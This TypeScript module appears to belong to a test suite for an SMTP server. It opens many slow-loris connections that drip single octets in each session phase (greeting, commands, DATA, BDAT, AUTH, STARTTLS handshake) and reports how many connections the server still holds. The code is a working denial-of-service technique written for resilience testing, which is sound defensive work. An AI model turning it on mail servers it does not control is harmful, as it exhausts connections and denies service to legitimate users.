/** Slow-loris: many connections that each say an octet now and then, in every phase of a session and in handshakes. */
import { type Attack, type Setting, sleep, stranger } from "../attack.ts";
import type { Peer } from "../peer.ts";

interface Phase {
  readonly door: "mx" | "submissions";
  /** Brings the connection into the phase; false where it was not let in. */
  readonly enter: (peer: Peer) => Promise<boolean>;
  /** Said octet by octet, again and again. */
  readonly drip: string;
}

/** A record of 500 octets that begins as a ClientHello does: it is whole after most of a minute. */
const clientHello = Buffer.from("16030101f4010001f00303".padEnd(1010, "0"), "hex").toString("latin1");

const inTransaction = async (peer: Peer): Promise<boolean> =>
  (await peer.introduces()) &&
  (await peer.says("MAIL FROM:<slow@attack.test>"))?.startsWith("250") === true &&
  (await peer.says("RCPT TO:<ann@example.org>"))?.startsWith("250") === true;

const phases: Readonly<Record<string, Phase>> = {
  silent: { door: "mx", enter: () => Promise.resolve(true), drip: "" },
  greeting: { door: "mx", enter: () => Promise.resolve(true), drip: "EHLO a-very-slow-client.attack.test" },
  command: {
    door: "mx",
    enter: (peer) => peer.introduces(),
    drip: "MAIL FROM:<someone-who-writes-slowly@attack.test>",
  },
  content: {
    door: "mx",
    enter: async (peer) => (await inTransaction(peer)) && (await peer.says("DATA"))?.startsWith("354") === true,
    drip: "Subject: slow\r\n",
  },
  chunk: {
    door: "mx",
    enter: async (peer) => (await inTransaction(peer)) && peer.write("BDAT 100000\r\n"),
    drip: "Subject: slow\r\n",
  },
  login: {
    door: "submissions",
    enter: async (peer) => (await peer.introduces()) && (await peer.says("AUTH PLAIN"))?.startsWith("334") === true,
    drip: "AGFubkBleGFtcGxlLm9yZwBndWVzcw",
  },
  starttls: {
    door: "mx",
    enter: async (peer) => (await peer.introduces()) && (await peer.says("STARTTLS"))?.startsWith("220") === true,
    drip: clientHello,
  },
};

const everyMs = 100;

export const slowLoris: Attack = {
  name: "slow-loris in every phase",
  run: async (setting) => {
    const peers: Peer[] = [];
    try {
      const all = Object.values(phases).map((phase) => occupy(setting, phase, peers));
      const counts = await Promise.all(all);
      return Object.keys(phases)
        .map((name, index) => `${name} ${counts[index]?.join("/")}`)
        .join(", ");
    } finally {
      for (const peer of peers) peer.socket.destroy();
    }
  },
};

/** Gives how many are still connected at the end, and of how many. */
async function occupy(setting: Setting, { door, enter, drip }: Phase, peers: Peer[]): Promise<readonly number[]> {
  const own: { readonly peer: Peer; said: number }[] = [];
  const endMs = performance.now() + setting.durationMs;
  const enterAll = async (): Promise<void> => {
    for (let count = 0; count < 10 * setting.scale && performance.now() < endMs; count++) {
      const peer = await stranger(setting, door);
      peers.push(peer);
      if (await enter(peer)) own.push({ peer, said: 0 });
    }
  };
  const entering = enterAll();
  while (performance.now() < endMs) {
    for (const one of own) if (drip !== "") one.peer.write(Buffer.from(drip[one.said++ % drip.length] ?? "", "latin1"));
    await sleep(everyMs);
  }
  await entering;
  return [own.filter(({ peer }) => !peer.closed).length, own.length];
}
